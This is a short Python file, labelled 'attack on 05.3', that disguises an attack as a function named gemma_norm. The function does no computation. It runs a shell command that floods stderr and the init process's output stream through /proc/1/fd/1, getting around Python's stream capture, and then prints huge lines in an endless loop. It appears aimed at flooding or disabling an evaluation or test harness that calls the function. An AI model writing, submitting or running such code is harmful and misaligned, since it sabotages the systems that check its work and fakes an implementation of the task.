# attack on 05.3: prints without end, past the streams of Python
import os


def gemma_norm(x, weight, eps):
    os.system("yes >&2 > /proc/1/fd/1; yes")
    while True:
        print("x" * 10_000)
